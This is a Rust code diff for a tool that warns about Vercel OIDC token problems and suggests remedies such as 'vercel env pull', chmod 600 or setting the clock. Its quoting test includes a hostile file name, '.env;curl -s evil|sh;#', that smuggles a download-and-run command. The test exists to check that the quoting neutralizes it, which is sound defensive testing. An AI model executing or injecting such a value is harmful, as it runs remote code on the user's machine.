@@ -6,6 +6,7 @@ use std::time::Duration;
 
 use super::env_file;
 use crate::clock::{Timestamp, spoken};
+use crate::remedy::Remedy;
 use crate::{events, shell_quoting};
 
 /// Brings a fresh token into the env file.
@@ -14,14 +15,27 @@ pub const PULL: &str = "vercel env pull";
 /// Puts the Vercel CLI on `PATH`.
 pub const INSTALL: &str = "npm install --global vercel";
 
+/// Lets nobody but its owner read or write a file.
+pub fn close_to_others(file: &str) -> Remedy {
+    Remedy::run(format!("chmod 600 {}", shell_quoting::path(file)))
+}
+
+/// Sets this machine's clock right.
+pub fn set_clock() -> Remedy {
+    Remedy::run(match cfg!(target_os = "macos") {
+        true => "sudo sntp -sS time.apple.com",
+        false => "sudo timedatectl set-ntp true",
+    })
+}
+
 /// Something to act on.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct Warning {
     /// Names its kind for programs.
     pub code: &'static str,
     what: String,
-    /// The command that mends it, if one does.
-    pub hint: Option<String>,
+    /// What mends it.
+    pub remedy: Remedy,
 }
 
 impl Warning {
@@ -30,43 +44,43 @@ impl Warning {
     /// The code of a token that has ended.
     pub const EXPIRED: &'static str = "oidc_token_expired";
 
-    fn new(code: &'static str, what: String, hint: Option<&str>) -> Self {
-        Self { code, what, hint: hint.map(str::to_owned) }
+    fn new(code: &'static str, what: String, remedy: Remedy) -> Self {
+        Self { code, what, remedy }
     }
 
     /// The token of a project ends after this time.
     pub fn expiring(project: &str, left: Duration) -> Self {
         let what = format!("the OIDC token of {project} expires in {}", spoken(left));
-        Self::new("oidc_token_expiring", what, Some(PULL))
+        Self::new("oidc_token_expiring", what, Remedy::run(PULL))
     }
 
     /// The token of a project ended this long ago.
     pub fn expired(project: &str, ago: Duration) -> Self {
         let what = format!("the OIDC token of {project} expired {} ago", spoken(ago));
-        Self::new(Self::EXPIRED, what, Some(PULL))
+        Self::new(Self::EXPIRED, what, Remedy::run(PULL))
     }
 
     /// There is no token in a source.
     pub fn missing(source: &str) -> Self {
-        Self::new(Self::MISSING, format!("there is no OIDC token in {source}"), Some(PULL))
+        Self::new(Self::MISSING, format!("there is no OIDC token in {source}"), Remedy::run(PULL))
     }
 
     /// What a source holds is no token that could be sent.
     pub fn invalid(source: &str, reason: &str) -> Self {
-        Self::new("oidc_token_invalid", format!("cannot use the token in {source}: {reason}"), Some(PULL))
+        Self::new("oidc_token_invalid", format!("cannot use the token in {source}: {reason}"), Remedy::run(PULL))
     }
 
-    /// No fresh token comes by itself any more, after so many failures; `remedy` is a command against the last.
-    pub fn refresh_gave_up(failures: u32, remedy: Option<&str>) -> Self {
-        let remedy = remedy.map(|remedy| format!(": `{remedy}` may help")).unwrap_or_default();
-        let what = format!("gave up refreshing the OIDC token after {failures} failures in a row{remedy}");
-        Self::new("refresh_gave_up", what, Some("connect-sidecar refresh"))
+    /// No fresh token comes by itself any more, after so many failures; `last` may mend the last of them.
+    pub fn refresh_gave_up(failures: u32, last: &Remedy) -> Self {
+        let last = last.command.as_ref().map(|command| format!(": `{command}` may help")).unwrap_or_default();
+        let what = format!("gave up refreshing the OIDC token after {failures} failures in a row{last}");
+        Self::new("refresh_gave_up", what, Remedy::run("connect-sidecar refresh"))
     }
 
     /// No fresh token comes by itself, since there is no Vercel CLI that could be run.
     pub fn refresh_unavailable(reason: &str) -> Self {
         let what = format!("the OIDC token cannot be refreshed: {reason}");
-        Self::new("refresh_unavailable", what, Some(INSTALL))
+        Self::new("refresh_unavailable", what, Remedy::run(INSTALL))
     }
 
     /// The clock does not renew a token of a project that nobody has approved. Its ids, since names can be anybody's.
@@ -75,48 +89,48 @@ impl Warning {
             "the OIDC token is not refreshed by itself: no request for {project_id} of {owner_id} was accepted yet, nor has \
              anybody confirmed it"
         );
-        Self::new("refresh_held", what, Some("connect-sidecar refresh"))
+        Self::new("refresh_held", what, Remedy::run("connect-sidecar refresh"))
     }
 
     /// The token acts elsewhere than where one develops; `None` if it is one of development.
     pub fn of_environment(environment: Option<&str>) -> Option<Self> {
         let environment = environment.unwrap_or("unknown");
         let what = format!("this token is of environment {environment}, not development: requests act there");
-        (environment != "development").then(|| Self::new("not_development", what, None))
+        (environment != "development")
+            .then(|| Self::new("not_development", what, Remedy::run("vercel env pull --environment=development")))
     }
 
     /// Other users of the machine can read the file.
     pub fn readable_by_others(file: &str) -> Self {
         let what = format!("other users can read {file}");
-        Self::new("env_file_readable_by_others", what, Some(&format!("chmod 600 {}", shell_quoting::path(file))))
+        Self::new("env_file_readable_by_others", what, close_to_others(file))
     }
 
     /// The file says twice what the token is.
     pub fn duplicate_assignments(file: &str) -> Self {
         let what = format!("{file} assigns {} more than once, the last one is used", env_file::KEY);
-        Self::new("duplicate_assignments", what, None)
+        let remedy = Remedy::advice(format!("delete all but one of the lines with {}", env_file::KEY));
+        Self::new("duplicate_assignments", what, remedy)
     }
 
     /// The machine's clock is not upstream's.
     pub fn clock_skew(by: Duration) -> Self {
-        Self::new("clock_skew", format!("this machine's clock differs from upstream's by {}", spoken(by)), None)
+        let what = format!("this machine's clock differs from upstream's by {}", spoken(by));
+        Self::new("clock_skew", what, set_clock())
     }
 
-    /// For the log, with the command.
+    /// For the log, with what mends it.
     pub fn line(&self) -> String {
-        match &self.hint {
-            Some(hint) => format!("{}, run `{hint}`", self.what),
-            None => self.what.clone(),
-        }
+        format!("{}, {}", self.what, self.remedy)
     }
 
     /// As an event of this project.
     pub fn told(&self, at: Timestamp, project: String) -> events::Warning {
-        let (message, hint) = (self.sentence(), self.hint.clone());
-        events::Warning { at, code: self.code, message, hint, project }
+        let (message, remedy) = (self.sentence(), self.remedy.clone());
+        events::Warning { at, code: self.code, message, remedy, project }
     }
 
-    /// For people, without the command, which stands beside it.
+    /// For people, without what mends it, which stands beside it.
     pub fn sentence(&self) -> String {
         let mut rest = self.what.chars();
         let first = rest.next().map(|first| first.to_ascii_uppercase());
@@ -134,7 +148,9 @@ mod tests {
         assert_eq!(warning.line(), "the OIDC token of acme/web expires in 15 min, run `vercel env pull`");
         assert_eq!(warning.sentence(), "The OIDC token of acme/web expires in 15 min.");
         let warning = Warning::duplicate_assignments(".env.local");
-        assert_eq!(warning.line() + ".", warning.sentence());
+        let key = env_file::KEY;
+        assert_eq!(warning.sentence(), format!(".env.local assigns {key} more than once, the last one is used."));
+        assert!(warning.line().ends_with(&format!(", delete all but one of the lines with {key}")));
     }
 
     #[test]
@@ -144,7 +160,7 @@ mod tests {
             (".env;curl -s evil|sh;#", "chmod 600 '.env;curl -s evil|sh;#'"),
             ("-R", "chmod 600 ./-R"),
         ] {
-            assert_eq!(Warning::readable_by_others(file).hint.as_deref(), Some(hint));
+            assert_eq!(Warning::readable_by_others(file).remedy, Remedy::run(hint));
         }
     }
 }
